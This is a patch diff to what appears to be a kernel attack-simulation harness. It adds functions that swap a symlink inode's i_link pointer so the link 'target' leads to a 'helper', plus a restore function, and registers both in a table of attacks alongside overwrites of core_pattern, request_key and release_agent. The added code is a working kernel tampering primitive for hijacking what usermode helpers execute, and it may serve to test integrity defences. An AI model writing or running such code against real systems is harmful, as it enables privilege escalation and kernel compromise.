@@ -4691,6 +4691,41 @@ static int restore_inode(struct task_struct *task, size_t field)
 	return 0;
 }
 
+/* A link that leads elsewhere, and where it led before */
+static struct path link;
+static char *led_to;
+
+static int redirect_link(struct task_struct *task, size_t field)
+{
+	struct inode *inode;
+	int err;
+
+	if (link.dentry)
+		return -EBUSY;
+	err = kern_path("target", 0, &link);
+	if (err)
+		return err;
+	inode = d_inode(link.dentry);
+	if (!inode->i_link) {
+		path_put(&link);
+		memset(&link, 0, sizeof(link));
+		return -EOPNOTSUPP;
+	}
+	led_to = inode->i_link;
+	inode->i_link = helper;
+	return 0;
+}
+
+static int restore_link(struct task_struct *task, size_t field)
+{
+	if (!link.dentry)
+		return 0;
+	d_inode(link.dentry)->i_link = led_to;
+	path_put(&link);
+	memset(&link, 0, sizeof(link));
+	return 0;
+}
+
 /* === The table ========================================================== */
 
 #define CPU(_name, _field) {				\
@@ -5089,6 +5124,8 @@ static const struct attack attacks[] = {
 		.run = overwrite_page_of_name,
 		.field = CORE_PATTERN,
 	},
+	ATTACK("helper-link", redirect_link, "target leads to it"),
+	ATTACK("helper-link-restore", restore_link, "target leads where it led"),
 	ATTACK("helper-request_key", overwrite_request_key,
 	       "keys are constructed by a program in /tmp"),
 	ATTACK("helper-release_agent", overwrite_release_agent,
